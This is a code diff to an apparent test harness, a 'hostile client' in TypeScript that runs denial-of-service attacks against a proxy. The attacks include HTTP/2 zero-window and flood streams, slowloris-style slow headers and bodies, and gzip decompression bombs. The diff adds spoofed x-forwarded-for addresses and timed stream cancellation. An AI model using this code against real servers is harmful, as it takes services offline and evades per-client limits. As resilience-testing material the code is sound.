@@ -2,13 +2,13 @@
  * One hostile client, in a container of its own: runs the attack that ATTACK names on the proxy (HOST) until it is stopped, and prints what
  * its requests got when it is. Without dependencies. A connection or stream that ends is opened again.
  */
-import { type ClientHttp2Session, connect as connectH2, type OutgoingHttpHeaders } from "node:http2";
+import { type ClientHttp2Session, connect as connectH2, constants, type OutgoingHttpHeaders } from "node:http2";
 import { setTimeout as pause } from "node:timers/promises";
 import { connect, type TLSSocket } from "node:tls";
 import { gzipSync } from "node:zlib";
 
-const { ATTACK = "", HOST = "", TARGET = "/", METHOD = "GET", ACCEPT = "text/html", PURPOSE } = process.env;
-const { CONNECTIONS = "1", STREAMS = "1", SIZE = "0" } = process.env;
+const { ATTACK = "", HOST = "", TARGET = "/", METHOD = "GET", ACCEPT = "text/html", PURPOSE, CLIENT } = process.env;
+const { CONNECTIONS = "1", STREAMS = "1", SIZE = "0", ABORT_MS } = process.env;
 const [connections, streams, size] = [CONNECTIONS, STREAMS, SIZE].map(Number) as [number, number, number];
 const [OPEN_MS, REOPEN_MS] = [4, 100];
 /** Well below the proxy's timeouts, which begin anew with each byte. */
@@ -32,15 +32,17 @@ function open(protocol: string): Promise<TLSSocket | undefined> {
   });
 }
 
-/** One request over HTTP/2 after another; resolves when the session has closed. */
-async function request(session: ClientHttp2Session, waitMs: number): Promise<void> {
+/** One request over HTTP/2 after another, of the connection's client if CLIENT has an N; resolves when the session has closed. */
+async function request(session: ClientHttp2Session, waitMs: number, connection: number): Promise<void> {
   while (!session.closed && !session.destroyed) {
     await new Promise<void>((resolve) => {
-      const purpose: OutgoingHttpHeaders = PURPOSE ? { "sec-purpose": PURPOSE } : {};
+      const more: OutgoingHttpHeaders = PURPOSE ? { "sec-purpose": PURPOSE } : {};
+      if (CLIENT) more["x-forwarded-for"] = CLIENT.replace("N", String(connection + 1));
       const own = { ":method": METHOD, ":path": TARGET, ":authority": HOST, accept: ACCEPT, "accept-encoding": "gzip" };
-      const stream = session.request({ ...own, ...purpose }, { endStream: true });
+      const stream = session.request({ ...own, ...more }, { endStream: true });
       stream.once("response", ({ ":status": status = 0 }) => count(status));
       stream.on("error", () => undefined).on("close", resolve);
+      if (ABORT_MS) setTimeout(() => stream.close(constants.NGHTTP2_CANCEL), Number(ABORT_MS));
       if (session.localSettings.initialWindowSize) stream.resume();
     });
     await pause(waitMs);
@@ -48,7 +50,7 @@ async function request(session: ClientHttp2Session, waitMs: number): Promise<voi
 }
 
 /** Many requests over HTTP/2 on one connection; with a window of zero, nothing of the responses can be sent. */
-async function multiplexed(initialWindowSize: number, waitMs: number): Promise<void> {
+async function multiplexed(initialWindowSize: number, waitMs: number, connection = 0): Promise<void> {
   const socket = await open("h2");
   if (!socket) return count("no connection");
   const settings = { initialWindowSize };
@@ -56,7 +58,7 @@ async function multiplexed(initialWindowSize: number, waitMs: number): Promise<v
   const closed = new Promise((resolve) => session.on("error", () => undefined).once("close", resolve));
   // Nginx knows how little may be sent once it has the client's settings.
   await Promise.race([closed, new Promise((resolve) => session.once("localSettings", resolve))]);
-  await Promise.all([closed, ...Array.from({ length: streams }, () => request(session, waitMs))]);
+  await Promise.all([closed, ...Array.from({ length: streams }, () => request(session, waitMs, connection))]);
 }
 
 /** Writes to a connection over HTTP/1.1, then a byte now and then if `slow`; ends when the connection is closed. */
@@ -78,9 +80,9 @@ const post = (length: number, more = "") =>
 const bomb = ATTACK === "bombs" ? gzipSync(Buffer.concat([Buffer.from("{}\n"), Buffer.alloc(90 << 20, "\n")])) : "";
 const gzip = "content-type: text/plain\r\ncontent-encoding: gzip\r\n";
 
-const attacks: Record<string, () => Promise<void>> = {
+const attacks: Record<string, (connection: number) => Promise<void>> = {
   unread: () => multiplexed(0, 1_000),
-  flood: () => multiplexed(1 << 20, 0),
+  flood: (connection) => multiplexed(1 << 20, 0, connection),
   "slow-body": () => write([post(size + 1_000), Buffer.alloc(size, "x")], true),
   "slow-header": () => write([`GET ${TARGET} HTTP/1.1\r\nhost: ${HOST}\r\nx-slow: `], true),
   bombs: () => write([post(bomb.length, gzip), bomb], false),
@@ -92,7 +94,7 @@ for (let n = 0; n < connections; n++) {
   void (async () => {
     await pause(n * OPEN_MS);
     for (;;) {
-      await attack();
+      await attack(n);
       await pause(REOPEN_MS);
     }
   })();
